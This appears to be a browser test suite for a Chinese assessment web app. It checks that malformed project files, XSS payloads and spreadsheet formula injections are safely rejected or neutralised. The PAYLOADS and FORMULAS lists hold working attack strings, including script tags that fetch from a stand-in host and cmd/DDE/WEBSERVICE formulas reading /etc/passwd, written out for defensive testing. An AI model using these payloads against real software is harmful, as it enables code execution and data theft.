// What other people wrote: broken and hostile files, texts that would like to be programs, cells that would
// like to be formulas. A part of it every time, all of it with DABIAO_TRIALS=1.

import assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { mkdtemp, readFile, readdir, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before, describe, test } from "node:test";
import { deflateRawSync } from "node:zlib";
import {
  CJK, COUNTY, ROOT, TOWN, assertOwnFiles, equalsSoon, field, fixture, kept, matchesSoon, openClause, openTab, row, section, storedDraft, until,
  withPage,
} from "./harness.mjs";
import { csvRows, fillTemplate, gb18030, sheets, unzip } from "./office-files.mjs";

const world = fixture({ before, after });
const ALL = process.env.DABIAO_TRIALS === "1";
const HUB = "transport_hub_within_30_minutes";
const MINUTES = "镇区至最近交通枢纽的车行时间";

async function openFiles(page, { standard }) {
  await page.goto(`${world.server.origin}/#/s/${standard}/files`);
  await page.locator("main.tab-files .import").waitFor();
}

async function exported(page, name) {
  const button = page.locator(".export").getByRole("button", { name, exact: true });
  const [download] = await Promise.all([page.waitForEvent("download"), button.click()]);
  return readFile(await download.path());
}

/** Every so many of a list, so that all kinds are among them. */
const sample = (list, most) => (ALL ? list : list.filter((_, index) => Math.floor((index * most) / list.length) !== Math.floor(((index - 1) * most) / list.length)));

describe("broken and hostile files", () => {
  let folder = "";
  before(async () => { folder = await mkdtemp(join(tmpdir(), "dabiao-hostile-")); });
  after(() => rm(folder, { recursive: true }));

  /** The renderers' memory in MiB: now and at its highest. */
  async function memory() {
    const session = await world.browser.newBrowserCDPSession();
    const { processInfo } = await session.send("SystemInfo.getProcessInfo");
    await session.detach();
    const values = await Promise.all(processInfo.filter(({ type }) => type === "renderer").map(async ({ id }) => {
      const status = await readFile(`/proc/${id}/status`, "utf8").catch(() => "");
      return Number(status.match(/VmHWM:\s+(\d+)/)?.[1] ?? 0) / 1024;
    }));
    return Math.max(0, ...values);
  }

  function texts(project) {
    const json = (name, value) => ({ file: `${name}.dabiao.json`, content: typeof value === "string" ? value : JSON.stringify(value), becomes: "project" });
    const deep = (open, shut, depth) => open.repeat(depth) + shut.repeat(depth);
    return [
      json("empty", ""), json("cut", JSON.stringify(project).slice(0, 100)), json("list", "[]"), json("number", "1e999"), json("null", "null"),
      json("text", '"a"'), json("deep-list", deep("[", "]", 100_000)), json("deep-map", deep('{"a":', "}", 50_000).replace("{}", "{")),
      json("deep-inside", `${JSON.stringify(project).slice(0, -1)},"x":${deep("[", "]", 120)}}`),
      json("deep-inside-more", `${JSON.stringify(project).slice(0, -1)},"x":${deep("[", "]", 100_000)}}`),
      json("no-format", { standard: project.standard }), json("format-0", { ...project, format: 0 }), json("format-negative", { ...project, format: -1 }),
      json("format-half", { ...project, format: 2.5 }), json("format-text", { ...project, format: "2" }), json("later", { ...project, format: 99 }),
      json("format-huge", JSON.stringify(project).replace('"format":2', '"format":18446744073709551616')),
      json("other-standard", { ...project, standard: "another" }), json("no-standard", { format: 2 }), json("standard-number", { ...project, standard: 7 }),
      json("proto", `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},${JSON.stringify({ ...project, figures: {} }).slice(1)}`),
      json("proto-inside", JSON.stringify({ ...project, figures: {} }).replace('"figures":{}', '"figures":{"__proto__":"1","constructor":"2","toString":"3"}')),
      json("figures-list", { ...project, figures: [1, 2] }), json("figures-null", { ...project, figures: null }), json("figures-text", { ...project, figures: "x" }),
      json("clauses-list", { ...project, clauses: [] }), json("clause-number", { ...project, clauses: { row_gdp: 7 } }),
      json("clause-odd", { ...project, clauses: { row_gdp: { evidence: "x", note: 7, not_applicable: "yes", reading: [] } } }),
      json("evidence-odd", { ...project, clauses: { row_gdp: { evidence: [1, null, [], { name: 7 }] } } }),
      json("huge-number", { ...project, figures: { gdp: "9".repeat(100_000) } }), json("huge-exponent", { ...project, figures: { gdp: "1e999999999" } }),
      json("many-figures", { ...project, figures: Object.fromEntries(Array.from({ length: 3_000 }, (_, index) => [`f${index}`, "1"])) }),
      json("long-note", { ...project, clauses: { row_gdp: { note: "长".repeat(300_000) } } }),
      json("title-odd", { ...project, title: { a: 1 } }), json("surrogate", '{"format":2,"title":"\\ud800"}'), json("nul", "\0".repeat(1000)),
      json("duplicate-keys", `{"format":2,"format":3,"standard":"${project.standard}"}`), json("comment", `// a\n${JSON.stringify(project)}`),
    ];
  }

  test("after each the page answers, and says what to do", async (context) => {
    await withPage(world, { hash: `#/s/${COUNTY.standard}/files` }, async (page) => {
      await page.locator(".import").waitFor();
      await writeFile(join(folder, "template.xlsx"), await exported(page, "填报表"));
      const project = JSON.parse(await exported(page, "项目文件"));
      const made = spawnSync("python3", [join(ROOT, "tests/office/hostile.py"), join(folder, "all"), join(folder, "template.xlsx"), "gas_coverage", "燃气普及率"], { encoding: "utf8" });
      assert.equal(made.status, 0, made.stderr);
      const fixed = JSON.parse(await readFile(join(folder, "all/cases.json"), "utf8"));
      for (const { file, content } of texts(project)) await writeFile(join(folder, "all", file), content);
      const cases = [...sample(fixed.filter(({ encoding }) => !encoding), 45), ...sample(texts(project), 15)];
      const start = await memory();
      const times = [];
      const wrong = [];
      for (const { file, becomes, sheet, cell, value } of cases) {
        const began = performance.now();
        await page.setInputFiles("#import-file", join(folder, "all", file));
        const shown = page.locator(".preview .source strong");
        const isThere = await shown.waitFor({ timeout: 9_000 }).then(() => true, () => false);
        times.push([performance.now() - began, file]);
        const say = (what) => wrong.push(`${file} (${becomes}): ${what}`);
        if (!isThere) {
          say("no answer");
          break;
        }
        const problems = await page.locator(".source li").allInnerTexts();
        const rows = await page.locator(".preview tbody tr").allInnerTexts();
        for (const text of problems) {
          if (!CJK.test(text)) say(`not in Chinese: ${text}`);
          if (!/请/.test(text)) say(`no remedy: ${text}`);
          if (/unreachable|undefined|\[object|panicked|RuntimeError|Error:/.test(text)) say(`a developer's words: ${text}`);
        }
        if (becomes === "refused" && (problems.length !== 1 || rows.length > 0)) say(`${problems.length} problems, ${rows.length} rows`);
        if (becomes === "problem" && !problems.some((text) => text.startsWith(cell ? `${sheet}!${cell}：` : sheet ? `工作表“${sheet}”` : "") || (sheet && text.includes(sheet)))) say(`not at ${sheet}!${cell}: ${problems}`);
        if (becomes === "read" && (problems.length > 0 || rows.length !== 1)) say(`${problems} ${rows}`);
        if (becomes === "read" && value && !rows[0]?.replace(/[．％０-９]/g, (wide) => String.fromCharCode(wide.charCodeAt() - 0xfee0)).includes(value.replace("+", ""))) say(`not ${value}: ${rows}`);
        // Another tab and back.
        const click = performance.now();
        await page.locator('.tabs a[href$="/missing"]').click();
        await page.locator("main.tab-missing").waitFor();
        await page.locator('.tabs a[href$="/files"]').click();
        await page.locator("main.tab-files .import").waitFor();
        if (performance.now() - click > 3_000) say(`the tabs took ${Math.round(performance.now() - click)} ms`);
        // What was read is still shown; nobody has to choose the file again.
        if (await shown.textContent() !== file) say("the preview is gone");
        await page.locator(".preview-actions .quiet").click();
        await page.locator(".preview").waitFor({ state: "detached" });
      }
      assert.equal(await page.evaluate(() => ({}).polluted), undefined);
      assert.deepEqual((await storedDraft(page, COUNTY))?.figures ?? {}, {}, "nothing was taken over");
      const most = await memory();
      times.sort(([one], [two]) => one - two);
      const [slowest, slowestFile] = times.at(-1);
      const p95 = times[Math.floor(times.length * 0.95)][0];
      context.diagnostic(`${cases.length} files; answer p50 ${Math.round(times[times.length >> 1][0])} ms, p95 ${Math.round(p95)} ms, max ${Math.round(slowest)} ms (${slowestFile}); renderer ${Math.round(start)} → ${Math.round(most)} MiB at most`);
      assert.deepEqual(wrong, []);
      assert.ok(slowest < 6_000, `${slowestFile}: ${slowest} ms`);
      assert.ok(most - start <= 256, `${most - start} MiB`);
    });
  });

  test("project files that are nonsense, opened from the first screen", () => withPage(world, { hash: "#/open" }, async (page) => {
    await page.locator(".open-page").waitFor();
    const project = { format: 2, standard: COUNTY.standard, title: "", level: "county", figures: {}, clauses: {} };
    const wrong = [];
    for (const { file, content } of sample(texts(project), 12)) {
      await page.goto(`${world.server.origin}/#/open`);
      await page.locator(".open-page").waitFor();
      await page.setInputFiles("#project-file", { name: file, mimeType: "application/json", buffer: Buffer.from(content) });
      const answered = page.locator(".open-page [role=alert], main.tab-files .import");
      if (!await answered.first().waitFor({ timeout: 5_000 }).then(() => true, () => false)) {
        wrong.push(`${file}: no answer`);
        await page.reload();
      } else if (await page.locator(".open-page [role=alert]").count() > 0 && !/请/.test(await page.locator(".open-page [role=alert]").innerText())) {
        wrong.push(`${file}: no remedy`);
      }
    }
    assert.deepEqual(wrong, []);
    // The page still works.
    await page.goto(`${world.server.origin}/#/s/${TOWN.standard}/fill`);
    await row(page, HUB).waitFor();
  }));
});

// Texts that would like to be programs

const RUN = "window.__xss=1";
const CALLS = [RUN, "alert(1)", "fetch('http://xss.invalid/')", "import('http://xss.invalid/x.js')"];
/** Payloads of all kinds: elements, attributes, addresses, encodings, templates, broken markup. */
function payloads() {
  const list = [];
  for (const call of CALLS) {
    list.push(
      `<script>${call}</script>`, `"><script>${call}</script>`, `'><script>${call}</script>`, `</textarea><script>${call}</script>`,
      `</title><script>${call}</script>`, `</style><script>${call}</script>`, `--><script>${call}</script>`, `]]><script>${call}</script>`,
      `<ScRiPt>${call}</sCrIpT>`, `<script\n>${call}</script\n>`, `<scr<script>ipt>${call}</scr</script>ipt>`, `<script src=data:,${call}></script>`,
      `<img src=x onerror=${call}>`, `"><img src=x onerror=${call}>`, `<img src=x onerror="${call}"`, `<img/src=x/onerror=${call}//`,
      `<svg onload=${call}>`, `<svg/onload=${call}>`, `<svg><script>${call}</script></svg>`, `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
      `<svg><a xlink:href="javascript:${call}"><text y=20>x</text></a></svg>`, `<svg><foreignObject><body onload=${call}></foreignObject></svg>`,
      `<math><mtext><table><mglyph><style><img src=x onerror=${call}>`, `<body onload=${call}>`, `<iframe src="javascript:${call}"></iframe>`,
      `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`, `<object data="javascript:${call}"></object>`, `<embed src="javascript:${call}">`,
      `<a href="javascript:${call}">x</a>`, `<form action="javascript:${call}"><button autofocus>x</button></form>`, `<input autofocus onfocus=${call}>`,
      `<details open ontoggle=${call}>`, `<video><source onerror=${call}></video>`, `<audio src=x onerror=${call}>`, `<marquee onstart=${call}>x</marquee>`,
      `<style onload=${call}></style>`, `<link rel=stylesheet href=x onerror=${call}>`, `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
      `<base href="javascript:${call}//">`, `<template><script>${call}</script></template>`,
    );
  }
  for (const scheme of ["javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\u0001javascript:", "vbscript:", "data:text/html,", "data:image/svg+xml,", "javascript://%0a", "&#106;avascript:", "jav&#x09;ascript:"]) {
    list.push(`${scheme}${RUN}`, `${scheme}<script>${RUN}</script>`);
  }
  list.push(
    "{{constructor.constructor('window.__xss=1')()}}", "${window.__xss=1}", "#{window.__xss=1}", "<%= window.__xss=1 %>", "`${window.__xss=1}`",
    "'-window.__xss=1-'", '"-window.__xss=1-"', "\\'-window.__xss=1//", "';window.__xss=1//", '";window.__xss=1//', "*/window.__xss=1/*",
    "&lt;script&gt;window.__xss=1&lt;/script&gt;", "&#60;script&#62;window.__xss=1&#60;/script&#62;", "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "\\u003cscript\\u003ewindow.__xss=1\\u003c/script\\u003e", "＜script＞window.__xss=1＜/script＞", "<\u0000script>window.__xss=1</script>",
    "__proto__", "constructor", "<!--<img src=x onerror=window.__xss=1>-->", "<![CDATA[<script>window.__xss=1</script>]]>",
    "\u202e<script>window.__xss=1</script>", "expression(window.__xss=1)", "url(javascript:window.__xss=1)", "<x onclick=window.__xss=1 style=position:fixed;inset:0>x",
  );
  return [...new Set(list)];
}
const PAYLOADS = payloads();
/** What a field of one line makes of a text. */
const line = (text) => text.replace(/\r\n|[\r\n]/g, " ");
/** What XML can carry of a text. */
const sound = (text) => text.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f]/g, "");

/** Runs with everything on the watch that a text might do. */
async function watched(options, body) {
  await withPage(world, options, async (page) => {
    const dialogs = [];
    page.on("dialog", (dialog) => {
      dialogs.push(dialog.message());
      dialog.dismiss().catch(() => {});
    });
    page.on("popup", (popup) => dialogs.push(popup.url()));
    await body(page);
    assert.equal(await page.evaluate(() => window.__xss), undefined);
    assert.deepEqual(dialogs, []);
    assert.equal(await page.locator("#app script, #workbench script, #app iframe, #workbench iframe, #app img, #workbench img, main object, main embed").count(), 0);
    for (const link of await page.locator("a[href]").evaluateAll((links) => links.map((link) => link.getAttribute("href")))) assert.match(link, /^(#|https?:|blob:)/);
    await assertOwnFiles(page, world.server);
  });
}

/** A link with any record in it, made without the program. */
function linkTo(standard, record) {
  const text = Buffer.from(JSON.stringify(record));
  let sum = 0x811c9dc5;
  for (const byte of text) sum = Math.imul(sum ^ byte, 0x01000193) >>> 0;
  const head = Buffer.alloc(4);
  head.writeUInt32BE(sum);
  return `#/shared/${standard}/1${Buffer.concat([head, deflateRawSync(text)]).toString("base64url")}`;
}

const TABS = ["fill", "table", "charts", "missing", "departments", "about", "files"];

describe("texts that would like to be programs", () => {
  test("there are enough of them", () => assert.ok(PAYLOADS.length >= 200, String(PAYLOADS.length)));

  test("typed into every field", () => watched({ hash: `#/s/${TOWN.standard}/fill` }, async (page) => {
    await row(page, HUB).waitFor();
    const detail = await openClause(page, HUB);
    await section(detail, "佐证材料").getByRole("button", { name: "添加一份材料" }).click();
    await section(detail, "不适用").getByLabel("本条不适用于本地").check();
    const fields = {
      title: page.getByLabel("评估对象"), figure: field(page, HUB, MINUTES), note: detail.getByRole("textbox", { name: "备注" }),
      reason: section(detail, "不适用").getByLabel("理由", { exact: true }), name: detail.getByLabel("材料名称"), number: detail.getByLabel("文号"),
      date: section(detail, "佐证材料").getByLabel("日期"), link: detail.getByLabel("存放位置或链接"), search: page.getByRole("searchbox"),
    };
    for (const payload of sample(PAYLOADS, 25)) {
      for (const [name, input] of Object.entries(fields)) {
        if (name === "search") continue;
        await input.fill(payload);
        assert.equal(await input.inputValue(), name === "note" ? payload : line(payload), name);
      }
      assert.equal(await page.evaluate(() => window.__xss), undefined, payload);
    }
    await fields.search.fill(PAYLOADS[0]);
    await fields.search.fill("");
    const last = PAYLOADS[0];
    for (const input of [fields.title, fields.figure, fields.note, fields.reason, fields.name, fields.number, fields.date, fields.link]) await input.fill(last);
    await kept(page, TOWN, "the last", ({ title }) => title === last);
    for (const tab of TABS) await openTab(page, tab);
    const project = JSON.parse(await exported(page, "项目文件"));
    assert.equal(project.title, last);
    assert.equal(project.clauses[HUB].evidence[0].link, last);
  }));

  test("as names of scenarios", () => watched({ hash: `#/s/${TOWN.standard}/plan` }, async (page) => {
    await page.locator("main.tab-plan .planner").waitFor();
    await page.getByRole("button", { name: "新增情景" }).click();
    const input = page.locator("#scenario-name");
    for (const payload of sample(PAYLOADS, 25)) {
      await input.fill(payload);
      await input.press("Tab");
      await equalsSoon(() => page.locator(".scenario-tab").first().innerText().then((text) => text.replace(/\s+/g, " ").trim()),
        line(payload).replace(/\s+/g, " ").trim(), payload);
    }
  }));

  /** A project in which every text is a payload. */
  function everywhere(project, ids) {
    const clauses = Object.fromEntries(PAYLOADS.map((payload, index) => [ids[index] ?? payload, {
      not_applicable: index % 3 === 0, reason: payload, reading: payload, note: payload,
      evidence: [{ name: payload, number: payload, date: payload, link: payload }],
    }]));
    return { ...project, title: PAYLOADS[1], sample: PAYLOADS[2], figures: Object.fromEntries(PAYLOADS.map((payload) => [payload, payload])), clauses };
  }

  test("in a project file, everywhere, and from there into every export", () => watched({ hash: `#/s/${TOWN.standard}/fill` }, async (page) => {
    await row(page, HUB).waitFor();
    const ids = await page.locator("article.clause").evaluateAll((rows) => rows.map((row) => row.id.slice(2)));
    await openFiles(page, TOWN);
    const project = everywhere(JSON.parse(await exported(page, "项目文件")), ids);
    project.figures.drive_minutes_to_hub = PAYLOADS[0];
    // Into what is open.
    await page.setInputFiles("#import-file", { name: "<img src=x onerror=window.__xss=1>.dabiao.json", mimeType: "", buffer: Buffer.from(JSON.stringify(project)) });
    await page.locator(".preview").waitFor();
    const shown = await page.locator(".preview").textContent();
    for (const payload of PAYLOADS.slice(0, ids.length)) assert.ok(shown.includes(payload), payload);
    await page.locator(".preview-actions .primary").click();
    await page.locator(".import .notice.good").waitFor();
    await kept(page, TOWN, "the import", ({ figures }) => figures.drive_minutes_to_hub === PAYLOADS[0]);
    // As an assessment of its own.
    await page.goto(`${world.server.origin}/#/open`);
    await page.setInputFiles("#project-file", { name: `${PAYLOADS[3].slice(0, 30)}.dabiao.json`, mimeType: "", buffer: Buffer.from(JSON.stringify({ ...project, sample: "" })) });
    await page.locator("main.tab-files").waitFor();
    for (const tab of TABS) await openTab(page, tab);
    for (const kind of ["项目文件", "自评报告", "结果表", "填报表", "CSV（UTF-8）"]) {
      const bytes = await exported(page, kind);
      if (kind === "自评报告") {
        const xml = unzip(bytes).get("word/document.xml").toString("utf8");
        assert.doesNotMatch(xml, /<(script|img|svg|iframe|x)\b/i);
        assert.match(xml, /&lt;script&gt;/);
      } else if (/表$/.test(kind)) {
        for (const [name, part] of unzip(bytes)) if (name.endsWith(".xml")) assert.doesNotMatch(part.toString("utf8"), /<(script|img|svg|iframe)\b/i, name);
        if (kind === "填报表") {
          const cells = sheets(bytes).flatMap((sheet) => [...sheet.cells.values()].map(({ text }) => text));
          const missing = PAYLOADS.slice(0, ids.length).filter((payload) => !cells.some((text) => sound(text).replace(/\s+/g, " ") === sound(payload).replace(/\s+/g, " ")));
          // A text may be quoted where it begins like a formula.
          assert.deepEqual(missing.filter((payload) => !/^[=+\-@\s]/.test(payload)), []);
        }
      }
    }
    await page.locator(".history button[aria-expanded]:not([disabled])").first().click().catch(() => {});
    await page.goto(`${world.server.origin}/#/`);
    await page.locator(".own-assessments li").first().waitFor();
    await matchesSoon(page.locator(".own-assessments"), /<script>/);
  }));

  test("in sheets, cells and names of files", () => watched({ hash: `#/s/${TOWN.standard}/files` }, async (page) => {
    await page.locator(".import").waitFor();
    const quoted = (text) => `"${text.replace(/"/g, '""')}"`;
    const choose = async (name, content) => {
      await page.setInputFiles("#import-file", { name, mimeType: "", buffer: Buffer.from(content) });
      await page.locator(".preview").waitFor();
      await equalsSoon(() => page.locator(".source strong").allTextContents(), [name]);
      return page.locator(".preview").textContent();
    };
    const names = await choose("a.csv", `指标,数值\n${PAYLOADS.map((payload) => `${quoted(sound(payload))},1`).join("\n")}\n`);
    assert.ok(names.includes("<script>"));
    for (const encode of [Buffer.from, gb18030]) {
      const text = sound(`指标,数值\n${MINUTES},${quoted(PAYLOADS[0])}\n镇区内部交通有序,${quoted(PAYLOADS[12])}\n`);
      assert.ok((await choose("b.csv", encode(text))).includes(PAYLOADS[0]));
    }
    const template = await exported(page, "填报表");
    const answers = ["drive_minutes_to_hub", "orderly_traffic_in_seat", "road_area", "seat_population"];
    for (let at = 0; at < (ALL ? PAYLOADS.length : 16); at += answers.length) {
      const figures = Object.fromEntries(answers.map((id, index) => [id, { D: sound(PAYLOADS[(at + index) % PAYLOADS.length]) }]));
      await choose("c.xlsx", await fillTemplate(template, { figures }));
    }
    // The name of a sheet, written by hand.
    const script = "import sys,zipfile;a=zipfile.ZipFile(sys.argv[1]);o=zipfile.ZipFile(sys.argv[2],'w',8)\nfor n in a.namelist():\n d=a.read(n)\n if n=='xl/workbook.xml': d=d.replace('name=\"填写\"'.encode(),('name=\"'+sys.argv[3]+'\"').encode())\n o.writestr(n,d)\no.close()";
    const folder = await mkdtemp(join(tmpdir(), "dabiao-xss-"));
    await writeFile(join(folder, "a.xlsx"), await fillTemplate(template, { figures: { drive_minutes_to_hub: { D: "abc" } } }));
    const name = "<img src=x onerror=window.__xss=1>";
    assert.equal(spawnSync("python3", ["-c", script, join(folder, "a.xlsx"), join(folder, "b.xlsx"), name.replace("<", "&lt;").replace(">", "&gt;")]).status, 0);
    assert.ok((await choose(`${name}.xlsx`, await readFile(join(folder, "b.xlsx")))).includes(`${name}!D4`));
    await rm(folder, { recursive: true });
  }));

  test("in links and in whatever stands behind #", () => watched({ hash: `#/s/${TOWN.standard}/files` }, async (page) => {
    await page.locator(".import").waitFor();
    const go = async (hash) => {
      await page.evaluate((hash) => { location.hash = hash; }, hash);
      await page.waitForTimeout(30);
    };
    for (const payload of sample(PAYLOADS, 40)) {
      const encoded = encodeURIComponent(payload.replace(/[\ud800-\udfff]/g, ""));
      for (const hash of [`#/shared/${TOWN.standard}/${payload}`, `#/shared/${encoded}/1abc`, `#/s/${payload}/fill`, `#/register/${encoded}`, `#${payload}`]) await go(hash);
      assert.equal(await page.evaluate(() => window.__xss), undefined, payload);
    }
    for (const garbage of ["#/shared/", "#/shared/x", `#/shared/${TOWN.standard}/`, `#/shared/${TOWN.standard}/1`, "#/%", "#/%E0%A4%A", "#/s/%00/fill", `#/${"a/".repeat(5000)}`, "#/s/__proto__/fill", "#/s/constructor/files"]) await go(garbage);
    for (const payload of sample(PAYLOADS, 40)) {
      await go(linkTo(TOWN.standard, {
        format: 2, standard: TOWN.standard, title: payload, level: "town", sample: payload, figures: { drive_minutes_to_hub: payload, [payload]: payload },
        clauses: { [HUB]: { not_applicable: true, reason: payload, reading: payload, note: payload, evidence: [{ name: payload, number: payload, date: payload, link: payload }] } },
      }));
      await equalsSoon(() => page.locator(".shared-page h1").allTextContents(), [payload]);
    }
    for (const record of [{}, [], { format: 99 }, { format: 2 }, { format: 2, figures: [], clauses: 7 }, { format: 2, standard: COUNTY.standard, figures: { gdp: "1" } }]) {
      await go(linkTo(TOWN.standard, record));
      await page.locator("main").first().waitFor();
    }
    // Asked for and not there; nothing was fetched for it (looked at by `watched`).
    page.record.consoleErrors = page.record.consoleErrors.filter((error) => !/404/.test(error));
    page.record.requests = page.record.requests.filter((address) => !/\/standards\//.test(address) || !/404/.test(address));
  }));

  test("in a standard file", () => watched({ hash: "#/check" }, async (page) => {
    await page.locator("#standard-text").waitFor();
    const seed = await readFile(join(ROOT, "seeds/standards", (await readdir(join(ROOT, "seeds/standards"))).find((name) => name.includes(TOWN.standard))), "utf8");
    const check = async (text) => {
      await page.setInputFiles("#standard-file", { name: "own.toml", mimeType: "", buffer: Buffer.from(text) });
      await equalsSoon(() => page.locator("#standard-text").inputValue(), text.replace(/\r\n?/g, "\n"));
      await page.locator(".findings > p").waitFor();
    };
    const literal = (text) => JSON.stringify(text).replace(/[\u007f-\u009f]/g, "");
    for (const payload of sample(PAYLOADS, 20)) {
      await check(`id = ${literal(payload)}\nname = { zh = ${literal(payload)}, en = ${literal(payload)} }\n[[clause]]\nid = ${literal(payload)}\n`);
      await check(payload);
    }
    // A sound one whose names are payloads, through every tab, and as a picture.
    let index = 0;
    const hostile = seed.replace(`id = "${TOWN.standard}"`, 'id = "own-town"').replace(/^zh = "[^"\\]*"$/gm, (whole) => (index++ % 7 === 3 ? `zh = ${literal(sound(line(PAYLOADS[index % 100])))}` : whole));
    await check(hostile);
    const use = page.getByRole("button", { name: "用它评估" });
    if (await use.count() > 0) {
      await use.click();
      await page.locator("article.clause").first().waitFor();
      for (const tab of TABS) await openTab(page, tab);
      await openTab(page, "charts");
      await page.locator("[data-chart=groups] svg.picture").waitFor();
      const [download] = await Promise.all([page.waitForEvent("download"), page.locator("[data-chart=groups] [data-export=svg]").click()]);
      const svg = await readFile(await download.path(), "utf8");
      assert.doesNotMatch(svg, /<(script|img|iframe|foreignObject|a)\b|\son\w+=["']/i);
    }
  }));
});

// Cells that would like to be formulas

const FORMULAS = [
  "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://xss.invalid\",\"x\")", "=WEBSERVICE(\"http://xss.invalid\")", "=IMPORTXML(\"http://xss.invalid\",\"//a\")",
  "=DDE(\"cmd\";\"/C calc\";\"x\")", "=2+5+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "+cmd|' /C calc'!A0", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1,1)",
  "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\u200b=1+1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "'=1+1", "\"=1+1\"", "\";=1+1", ",=1+1", "a\n=1+1", "a,=1+1",
  "=1+1;", "==1+1", "=(1+1)", "=A1", "=R1C1", "={1;2}", "=SUM(A1:A9)", "=EXEC(\"calc\")", "=CALL(\"urlmon\")", "=REGISTER.ID(\"a\")", "=1+1|", "|=1+1", "%0A=1+1", "=\"=1+1\"",
  "=FILE(\"/etc/passwd\")", "='file:///etc/passwd'#$a.A1", "=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!''", "=1E1", "=TRUE", "=NOW()", "=RAND()", "=INFO(\"system\")", "=CELL(\"filename\")",
  "=_xlfn.WEBSERVICE(\"a\")", "=TODAY()", "=INDIRECT(\"A1\")", "@=1+1", "+=1+1", "-=1+1", "=-1",
];

describe("cells that would like to be formulas", () => {
  test("stay text in every export; a negative number stays a number", async (context) => {
    assert.ok(FORMULAS.length >= 60, String(FORMULAS.length));
    await withPage(world, { hash: `#/s/${COUNTY.standard}/fill` }, async (page) => {
      await page.locator("article.clause").first().waitFor();
      const ids = await page.locator("article.clause").evaluateAll((rows) => rows.map((row) => row.id.slice(2)));
      await page.getByLabel("评估对象").fill(FORMULAS[0]);
      await field(page, "row_gdp", "地区生产总值").fill(FORMULAS[0]);
      await openTab(page, "files");
      const project = JSON.parse(await exported(page, "项目文件"));
      const figureIds = csvRows((await exported(page, "CSV（UTF-8）")).toString("utf8")).slice(1).map(([id]) => id);
      // Through the project file the texts come in that a field of one line cannot hold.
      const clauses = Object.fromEntries(FORMULAS.map((text, index) => [ids[index], { not_applicable: true, reason: text, reading: "", note: text, evidence: [{ name: text, number: text, date: text, link: text }] }]));
      const figures = Object.fromEntries(FORMULAS.map((text, index) => [figureIds[index], text]));
      figures.investment_growth = "-9.7";
      await page.setInputFiles("#import-file", { name: "a.dabiao.json", mimeType: "", buffer: Buffer.from(JSON.stringify({ ...project, figures, clauses })) });
      await page.locator(".preview-actions .primary").click();
      await page.locator(".import .notice.good").waitFor();
      const files = {};
      for (const [kind, name] of [["结果表", "result.xlsx"], ["填报表", "template.xlsx"], ["CSV（UTF-8）", "utf8.csv"], ["CSV（GB18030）", "gb.csv"], ["自评报告", "report.docx"]]) files[name] = await exported(page, kind);

      for (const name of ["result.xlsx", "template.xlsx"]) {
        for (const sheet of sheets(files[name])) {
          for (const [place, { formula, type, text }] of sheet.cells) {
            if (formula !== null) {
              // A text within quotes in a formula of ours would be worth a look as well.
              assert.doesNotMatch(formula, /cmd|HYPERLINK|WEBSERVICE|DDE|EXEC|xss\.invalid|1\+1(?![\d.])|file:/i, `${name} ${sheet.name}!${place}`);
            } else if (FORMULAS.includes(text)) {
              assert.match(type, /^(s|inlineStr|str)$/, `${name} ${sheet.name}!${place}`);
            }
          }
        }
        const xml = [...unzip(files[name])].filter(([part]) => /worksheets\/sheet\d+\.xml$/.test(part)).map(([, content]) => content.toString("utf8")).join("");
        assert.doesNotMatch(xml, /<hyperlink/);
      }
      for (const [name, encoding] of [["utf8.csv", "utf-8"], ["gb.csv", "gb18030"]]) {
        const rows = csvRows(new TextDecoder(encoding).decode(files[name]));
        // What stands behind a space is no formula for a spreadsheet program: below one of them is asked.
        const naked = rows.flat().filter((cell) => /^[=+\-@＝＋－＠\t\r\n]/.test(cell) && !/^[+-]?[\d.]+%?$/.test(cell));
        assert.deepEqual(naked, [], name);
        assert.ok(rows.some(([id, , , , value]) => id === "investment_growth" && value === "-9.7"), `${name}: a negative number stays one`);
      }
      context.diagnostic(`${FORMULAS.length} formulas in ${Object.keys(files).length} files`);

      // A spreadsheet program evaluates none.
      const folder = await mkdtemp(join(tmpdir(), "dabiao-formula-"));
      const has = spawnSync("soffice", ["--version"]).status === 0;
      if (has) {
        for (const name of ["result.xlsx", "template.xlsx", "utf8.csv"]) await writeFile(join(folder, name), files[name]);
        const run = spawnSync("soffice", [`-env:UserInstallation=file://${folder}/profile`, "--headless", "--convert-to", "fods", "--outdir", folder, "--infilter=", ...["result.xlsx", "template.xlsx"].map((name) => join(folder, name))].filter((word) => word !== "--infilter="), { encoding: "utf8", timeout: 120_000 });
        const csv = spawnSync("soffice", [`-env:UserInstallation=file://${folder}/profile`, "--headless", "--infilter=CSV:44,34,76,1,,0,false,true,false", "--convert-to", "fods", "--outdir", folder, join(folder, "utf8.csv")], { encoding: "utf8", timeout: 120_000 });
        for (const name of ["result", "template", "utf8"]) {
          const text = await readFile(join(folder, `${name}.fods`), "utf8").catch(() => assert.fail(`${name}: ${run.stderr}${csv.stderr}`));
          const formulas = [...text.matchAll(/table:formula="([^"]*)"/g)].map(([, formula]) => formula);
          if (name !== "result") assert.deepEqual(formulas, [], name);
          for (const formula of formulas) assert.doesNotMatch(formula, /cmd|HYPERLINK|WEBSERVICE|DDE|EXEC|xss\.invalid|=1\+1|file:/i, name);
        }
        context.diagnostic("opened in LibreOffice");
      }
      await rm(folder, { recursive: true });
    });
  });
});
